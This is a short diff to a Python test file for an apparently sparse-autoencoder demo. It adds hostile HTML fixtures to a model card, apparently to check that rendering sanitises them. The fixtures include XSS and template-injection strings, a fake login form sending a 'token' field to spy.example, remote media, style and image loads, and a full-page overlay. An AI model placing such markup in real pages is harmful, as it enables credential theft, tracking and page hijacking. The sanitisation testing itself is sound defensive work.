@@ -32,7 +32,14 @@ from hfsae.demo import Choice, Subject, open_subject
 ROOT = Path(__file__).parent.parent.parent
 D_SAE = 48
 HOSTILE = "<img src=x onerror=\"document.title='hit'\"> ${document.title='hit'} {{7*7}} `\\"
+SPIES = """\
+<video src="https://spy.example/v" autoplay></video><audio src="https://spy.example/a"></audio>
+<form action="https://spy.example/login"><input name="token"><button>Log in</button></form>
+<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>
+<style>@import url("https://spy.example/s"); body { display: none }</style>
+"""
 CARD = f"---\nlicense: mit\n---\n\n# A tiny SAE\n\n{HOSTILE} ![spy](https://spy.example/a.png)\n"
+CARD += f"\n{SPIES}\n| a | b |\n| --- | ---: |\n| `x` | 1 |\n"
 WORDS = "the cat sat on the mat and the dog ran to the sea while rain fell on all of them "
 TEXTS = [WORDS * 3, WORDS[::-1] * 3, "0123456789 " * 30]
 
